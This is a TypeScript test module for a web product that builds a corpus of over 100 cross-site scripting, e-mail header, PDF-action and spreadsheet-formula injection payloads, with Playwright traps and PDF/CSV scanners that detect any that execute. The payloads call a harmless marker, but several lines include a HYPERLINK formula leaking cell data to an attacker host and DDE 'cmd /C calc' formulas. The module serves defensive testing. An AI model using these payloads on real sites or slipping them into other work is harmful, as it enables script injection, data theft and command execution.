/**
 * The hostile-input corpus (issue 27, item 5): texts an attacker would type into any field of the
 * product, each of which runs `__xss(n)` (its own number) if some place shows it as markup, as
 * script, as a link or as a spreadsheet formula rather than as the plain text it is. And the traps
 * that catch one that got through: in Chromium (a page or an e-mail), in a PDF's objects and in a
 * CSV file as a spreadsheet reads it.
 *
 * The payloads are the classic families (tags with handlers, breaking out of attributes, of a
 * <script> that carries JSON, of a comment or a <style>, javascript: and data: addresses in every
 * casing and encoding, mutation XSS that a sanitizer's round trip turns live, template syntaxes of
 * client frameworks, e-mail header and PDF string break-outs, and formulas), written so that a
 * single one that works is seen: by a call, or by what it leaves in the document.
 */
import { inflateSync } from 'node:zlib';
import type { BrowserContext, Page } from 'playwright-core';

/** The call a payload makes when it runs; the trap records the number. */
export const XSS_MARK = '__xss';

const forms: ((mark: string, n: number) => string)[] = [
  // Plain tags with handlers.
  (m) => `<script>${m}</script>`,
  (m) => `<SCRIPT>${m}</SCRIPT>`,
  (m) => `<script type="module">${m}</script>`,
  (m) => `<script src="data:text/javascript,${m}"></script>`,
  (m) => `<img src=x onerror=${m}>`,
  (m) => `<img src="x" onerror="${m}">`,
  (m) => `<IMG SRC=x OnErRoR=${m}>`,
  (m) => `<img/src=x/onerror=${m}>`,
  (m) => `<img src=x onerror="javascript:${m}">`,
  (m) => `<img src onerror=${m}>`,
  (m) => `<img srcset=",,x" onerror=${m}>`,
  (m) => `<svg onload=${m}>`,
  (m) => `<svg/onload=${m}>`,
  (m) => `<svg><script>${m}</script></svg>`,
  (m) => `<svg><animate onbegin=${m} attributeName=x dur=1s>`,
  (m) => `<svg><set onbegin=${m} attributeName=x to=1>`,
  (m) => `<svg><a xlink:href="javascript:${m}"><text x=20 y=20>klik</text></a></svg>`,
  (m) => `<math><mtext><table><mglyph><style><img src=x onerror=${m}></style></mglyph></table></mtext></math>`,
  (m) => `<body onload=${m}>`,
  (m) => `<iframe src="javascript:${m}"></iframe>`,
  (m) => `<iframe srcdoc="<script>parent.${m}</script>"></iframe>`,
  (m) => `<iframe onload=${m}></iframe>`,
  (m) => `<object data="javascript:${m}"></object>`,
  (m) => `<embed src="javascript:${m}">`,
  (m) => `<video><source onerror=${m}></video>`,
  (m) => `<video src=x onerror=${m}></video>`,
  (m) => `<audio src=x onerror=${m}></audio>`,
  (m) => `<details open ontoggle=${m}>`,
  (m) => `<input autofocus onfocus=${m}>`,
  (m) => `<select autofocus onfocus=${m}></select>`,
  (m) => `<textarea autofocus onfocus=${m}></textarea>`,
  (m) => `<button autofocus onfocus=${m}>x</button>`,
  (m) => `<marquee onstart=${m}>x</marquee>`,
  (m) => `<div onpointerover=${m} style="position:fixed;inset:0">x</div>`,
  (m) => `<div onmouseover="${m}" style="width:100%;height:100%">x</div>`,
  (m) => `<style onload=${m}></style>`,
  (m) => `<link rel=stylesheet href=x onerror=${m}>`,
  (m) => `<form><button formaction="javascript:${m}">send</button></form>`,
  (m) => `<isindex type=image src=1 onerror=${m}>`,
  (m) => `<keygen autofocus onfocus=${m}>`,
  (m) => `<base href="javascript:${m}//">`,
  (m) => `<meta http-equiv="refresh" content="0;url=javascript:${m}">`,
  (m) => `<a href="javascript:${m}">klik her</a>`,
  (m) => `<a href="JaVaScRiPt:${m}">klik</a>`,
  (m) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${m}">klik</a>`,
  (m) => `<a href="&#x6A;avascript:${m}">klik</a>`,
  (m) => `<a href=" javascript:${m}">klik</a>`,
  (m) => `<a href="java\tscript:${m}">klik</a>`,
  (m) => `<a href="data:text/html,<script>${m}</script>">klik</a>`,
  (m) => `<a href="vbscript:${m}">klik</a>`,
  // Breaking out of an attribute the text might be put into.
  (m) => `" onmouseover="${m}" x="`,
  (m) => `' onmouseover='${m}' x='`,
  (m) => `" autofocus onfocus="${m}" x="`,
  (m) => `"><img src=x onerror=${m}>`,
  (m) => `'><img src=x onerror=${m}>`,
  (m) => `"/><svg onload=${m}>`,
  (m) => `" style="background:url(javascript:${m})`,
  (m) => `x" onerror="${m}`,
  (m) => `javascript:${m}`,
  (m) => `data:text/html;base64,${Buffer.from(`<script>parent.${m}</script>`).toString('base64')}`,
  // Breaking out of a <script> that carries JSON, of a comment, of <title>, <textarea>, <style>, <noscript>.
  (m) => `</script><script>${m}</script>`,
  (m) => `</SCRIPT><img src=x onerror=${m}>`,
  (m) => `</script ><script>${m}</script >`,
  (m) => `<!--<script>--><img src=x onerror=${m}>`,
  (m) => `--><img src=x onerror=${m}><!--`,
  (m) => `</title><img src=x onerror=${m}>`,
  (m) => `</textarea><img src=x onerror=${m}>`,
  (m) => `</style><img src=x onerror=${m}>`,
  (m) => `</noscript><img src=x onerror=${m}>`,
  (m) => `<noscript><p title="</noscript><img src=x onerror=${m}>">`,
  (m) => `<svg></p><style><a id="</style><img src=1 onerror=${m}>">`,
  (m) => `<xmp><p title="</xmp><img src=x onerror=${m}>">`,
  (m) => `<template><img src=x onerror=${m}></template><div id=t></div>`,
  // Script string and template contexts.
  (m) => `';${m};'`,
  (m) => `";${m};"`,
  (m) => `\\';${m};//`,
  (m) => `\${${m}}`,
  (m) => `\`;${m};\``,
  (m) => `\u2028${m}\u2029`,
  (m) => `{{constructor.constructor('${m}')()}}`,
  (m) => `{{$on.constructor('${m}')()}}`,
  (m) => `<div v-html="'<img src=x onerror=${m}>'"></div>`,
  (m) => `#{${m}}`,
  (m) => `<%= ${m} %>`,
  // Obfuscation: a NUL, odd whitespace, unclosed tags, double encoding.
  (m) => `<scr\u0000ipt>${m}</scr\u0000ipt>`,
  (m) => `<img\u000csrc=x\u000conerror=${m}>`,
  (m) => `<img src=x onerror=${m}//`,
  (m) => `<<img src=x onerror=${m}>>`,
  (m) => `&lt;img src=x onerror=${m}&gt;`,
  (m) => `%3Cimg%20src%3Dx%20onerror%3D${m}%3E`,
  (m) => `%253Cscript%253E${m}%253C%252Fscript%253E`,
  (m) => `\\u003cimg src=x onerror=${m}\\u003e`,
  (m) => `<img src=x onerror=&#95;&#95;xss(0)>${m}`,
  (m) => `<img src="x` + '`' + `onerror=${m}>`,
  (m) => `<svg><![CDATA[><img src=x onerror=${m}>]]></svg>`,
  (m) => `<? ><img src=x onerror=${m}>`,
  (m) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${m} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${m}//>\\x3e`,
  (m) => `<a href="#" id="x" onclick="${m}">Mindeord</a><script>document.getElementById('x').click()</script>`,
  // Markdown and links the text might be turned into.
  (m) => `[klik](javascript:${m})`,
  (m) => `![billede](x" onerror="${m})`,
  (m) => `<https://eksempel.dk/"onmouseover="${m}">`,
  // CSS.
  (m) => `<div style="width:expression(${m})">x</div>`,
  (m) => `<style>@import 'javascript:${m}';</style>`,
  (m) => `<style>*{background:url("javascript:${m}")}</style>`,
  // An e-mail's header, and a PDF's string, broken out of.
  (m) => `Karen\r\nBcc: angriber@eksempel.dk\r\nX-Xss: ${m}`,
  (m) => `Karen\nContent-Type: text/html\n\n<script>${m}</script>`,
  (m) => `) /S /JavaScript /JS (${m}) >> /OpenAction << /S /JavaScript /JS (${m})`,
  (m) => `\\) /AA << /O << /S /JavaScript /JS (${m}) >> >>`,
  (m) => `<< /Type /Action /S /Launch /F (calc.exe) >> ${m}`,
  // Formulas a spreadsheet would run.
  (m) => `=${m}`,
  (m) => `=HYPERLINK("https://angriber.invalid/?d="&A1,"${m}")`,
  (m) => `+cmd|' /C calc'!A0 ${m}`,
  (m) => `-2+3+cmd|' /C calc'!A0 ${m}`,
  (m) => `@SUM(1+1)*cmd|' /C calc'!A0 ${m}`,
  (m) => `\t=1+1 ${m}`,
  (m) => `\r=1+1 ${m}`,
  (m) => `=DDE("cmd";"/C calc";"${m}")`,
  (m) => `＝1+1 ${m}`,
];

/** Every payload, its number in the call it makes. At least 100 (the issue's floor). */
export const XSS_PAYLOADS: readonly string[] = forms.map((form, n) => form(`${XSS_MARK}(${n})`, n));

/**
 * The payloads packed into `groups` texts of at most `max` characters, each payload whole: a field
 * that takes one line of 120 characters still sees all of them over a few memorials. A payload
 * longer than `max` is cut (a field that refuses the whole refuses a part alike).
 */
export function payloadTexts(max: number, separator = ' '): string[] {
  const texts: string[] = [];
  let current = '';
  for (const payload of XSS_PAYLOADS) {
    const piece = payload.slice(0, max);
    if (current && current.length + separator.length + piece.length > max) {
      texts.push(current);
      current = piece;
    } else current = current ? `${current}${separator}${piece}` : piece;
  }
  if (current) texts.push(current);
  return texts;
}

/** What a page or an e-mail showed that is not plain text: a payload run, or markup it made. */
export interface XssFinding {
  kind: 'ran' | 'dialog' | 'markup';
  detail: string;
}

declare global {
  interface Window {
    __xssHits?: number[];
  }
}

/**
 * Sets a trap in every page the context opens: `__xss(n)` records n, and alert, confirm, prompt
 * and print are counted as runs too (a payload written by hand would use them). Call before
 * opening the pages.
 */
export async function trapXss(context: BrowserContext): Promise<void> {
  await context.addInitScript(`
    window.__xssHits = [];
    window.${XSS_MARK} = (n) => { window.__xssHits.push(n); };
    for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => { window.__xssHits.push(-1); };
  `);
}

/**
 * What the page at hand shows of the corpus other than text: payloads that ran (recorded by the
 * trap, in the page and its frames) and markup a payload made, whether it ran or not: an element
 * with an on… attribute, a javascript:, vbscript: or data:text/html address, a <script>, <iframe>,
 * <object>, <embed> or <base> whose text or address carries the mark (a <script> of JSON data that
 * parses as JSON aside), or a refreshing <meta>. Our own pages use none of these, so any one is a
 * payload's.
 */
export async function xssFindings(page: Page): Promise<XssFinding[]> {
  const findings: XssFinding[] = [];
  for (const frame of page.frames()) {
    const result = await frame
      .evaluate((mark) => {
        const hits = (window.__xssHits ?? []).map(String);
        const isJson = (text: string) => {
          try {
            JSON.parse(text);
            return true;
          } catch {
            return false;
          }
        };
        const markup: string[] = [];
        const addressAttributes = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc', 'background', 'poster'];
        for (const element of Array.from(document.querySelectorAll('*'))) {
          for (const attribute of Array.from(element.attributes)) {
            const name = attribute.name.toLowerCase();
            // Browsers ignore control characters and spaces in an address's scheme.
            const value = Array.from(attribute.value).filter((c) => c.charCodeAt(0) > 0x20).join('').toLowerCase();
            if (name.startsWith('on')) markup.push(`<${element.localName} ${name}="${attribute.value.slice(0, 80)}">`);
            else if (addressAttributes.includes(name) && /^(javascript|vbscript|data:text\/html)/.test(value))
              markup.push(`<${element.localName} ${name}="${attribute.value.slice(0, 80)}">`);
            else if (name === 'srcdoc' || (name === 'style' && /expression\(|javascript:/.test(value)))
              markup.push(`<${element.localName} ${name}="${attribute.value.slice(0, 80)}">`);
          }
          const tag = element.localName;
          // A page's data for its app (a memorial's JSON in <script type="application/json">) carries
          // the texts, as it must, and never runs: a payload that broke out of it makes another element.
          const dataType = /^application\/(ld\+)?json$/i.test(element.getAttribute('type') ?? '');
          if (tag === 'script' && dataType && isJson(element.textContent ?? '')) continue;
          if (['script', 'iframe', 'object', 'embed', 'base', 'style'].includes(tag) && (element.outerHTML.includes(mark) || tag === 'base'))
            markup.push(element.outerHTML.slice(0, 120));
          if (tag === 'meta' && (element.getAttribute('http-equiv') ?? '').toLowerCase() === 'refresh') markup.push(element.outerHTML.slice(0, 120));
        }
        return { hits, markup };
      }, XSS_MARK)
      .catch(() => ({ hits: [] as string[], markup: [] as string[] }));
    for (const hit of result.hits) findings.push({ kind: 'ran', detail: `${frame.url()}: payload ${hit === '-1' ? '(alert/confirm/prompt/print)' : `${hit}: ${XSS_PAYLOADS[Number(hit)]}`}` });
    for (const detail of result.markup) findings.push({ kind: 'markup', detail: `${frame.url()}: ${detail}` });
  }
  return findings;
}

/** Counts dialogs a page opens (alert and friends replaced by the trap cannot, but a frame's own could). */
export function countDialogs(page: Page, findings: XssFinding[]): void {
  page.on('dialog', (dialog) => {
    findings.push({ kind: 'dialog', detail: `${dialog.type()}: ${dialog.message()}` });
    void dialog.dismiss();
  });
}

/**
 * What in a PDF could run or open something: an action of JavaScript, Launch, SubmitForm or
 * ImportData, an open action, additional actions, a JavaScript name tree, or a link to a
 * javascript: address. A PDF's dictionaries are plain text even when its content streams are
 * compressed, and a text shown on a page is written inside a content stream as a string, so a
 * payload that broke out of its string would appear here as a dictionary key. A `\(` inside a
 * string is an escaped parenthesis, the text of a field, not the start of an address.
 */
export function pdfActiveContent(pdf: Buffer): string[] {
  const whole = pdf.toString('latin1');
  // A text a field put into a dictionary (the document's title, say) is a string there: its words
  // are no keys, so strings are blanked before the keys are looked for; a link's address is itself
  // a string, looked for as one.
  // pdf-lib writes most dictionaries into compressed object streams (/Type /ObjStm): read inflated too.
  const text = [whole, ...objectStreams(whole)].map(objectsWithoutStrings).join('\n');
  const found: string[] = [];
  for (const pattern of [/\/JavaScript\b/, /\/JS\s*[(<]/, /\/Launch\b/, /\/SubmitForm\b/, /\/ImportData\b/, /\/OpenAction\b/, /\/AA\s*<</]) {
    const match = pattern.exec(text);
    if (match) found.push(text.slice(Math.max(0, match.index - 40), match.index + 60));
  }
  const link = /\/(URI|F)\s*\(\s*javascript:/i.exec(whole);
  if (link) found.push(whole.slice(Math.max(0, link.index - 40), link.index + 60));
  return found;
}

/** The contents of a PDF's compressed object streams, where a PDF 1.5 writer keeps its dictionaries. */
function objectStreams(pdf: string): string[] {
  const found: string[] = [];
  for (const match of pdf.matchAll(/<<((?:(?!>>)[\s\S])*?\/Type\s*\/ObjStm[\s\S]*?)>>\s*stream\r?\n/g)) {
    if (!/\/FlateDecode/.test(match[1]!)) continue;
    const start = match.index + match[0].length;
    const end = pdf.indexOf('endstream', start);
    try {
      found.push(inflateSync(Buffer.from(pdf.slice(start, end), 'latin1')).toString('latin1'));
    } catch {
      found.push(pdf.slice(start, end));
    }
  }
  return found;
}

/** A PDF's objects with each literal string's content (escapes and nested parentheses) blanked; streams left out whole. */
function objectsWithoutStrings(pdf: string): string {
  let out = '';
  let depth = 0;
  for (let i = 0; i < pdf.length; i += 1) {
    const char = pdf[i]!;
    if (depth === 0 && char === 's' && pdf.startsWith('stream', i) && /[\s>]/.test(pdf[i - 1] ?? '')) {
      const end = pdf.indexOf('endstream', i + 6);
      if (end < 0) break;
      out += ' stream ';
      i = end + 'endstream'.length - 1;
    } else if (char === '\\' && depth > 0) i += 1;
    else if (char === '(') {
      depth += 1;
      if (depth === 1) out += '(';
    } else if (char === ')' && depth > 0) {
      depth -= 1;
      if (depth === 0) out += ')';
    } else if (depth === 0) out += char;
  }
  return out;
}

/**
 * A semicolon-separated CSV file (lib/csv.ts) read as a spreadsheet reads it: quotes and doubled
 * quotes undone, the byte order mark dropped. Rows of cells.
 */
export function parseCsv(csv: string, separator = ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const input = csv.replace(/^\uFEFF/, '');
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < input.length; i += 1) {
    const char = input[i]!;
    if (quoted) {
      if (char === '"' && input[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === '') quoted = true;
    else if (char === separator) endCell();
    else if (char === '\r' && input[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i += 1;
    } else cell += char;
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/**
 * The cells a spreadsheet would take as a formula: those that begin with =, +, -, @, a tab or a
 * carriage return (OWASP's list), or the full-width equals sign some locales read as one. A
 * defused cell begins with an apostrophe, which the spreadsheet shows as text and hides.
 */
export function formulaCells(rows: string[][]): string[] {
  return rows.flat().filter((cell) => /^[=+\-@\t\r\uFF1D]/.test(cell));
}

/** The payloads a spreadsheet would take as formulas as they stand: each goes alone into a CSV column, so each begins a cell. */
export const FORMULA_PAYLOADS: readonly string[] = XSS_PAYLOADS.filter((payload) => /^[=+\-@\t\r\uFF1D]/.test(payload));

/**
 * What a CSV cell holding `typed` must read as (lib/csv.ts): the text unchanged, with an apostrophe
 * before it when it begins as a formula. `typed` as the server keeps it (zod trims most fields).
 */
export const defusedCell = (typed: string): string => (/^[=+\-@\t\r\uFF1D]/.test(typed) ? `'${typed}` : typed);
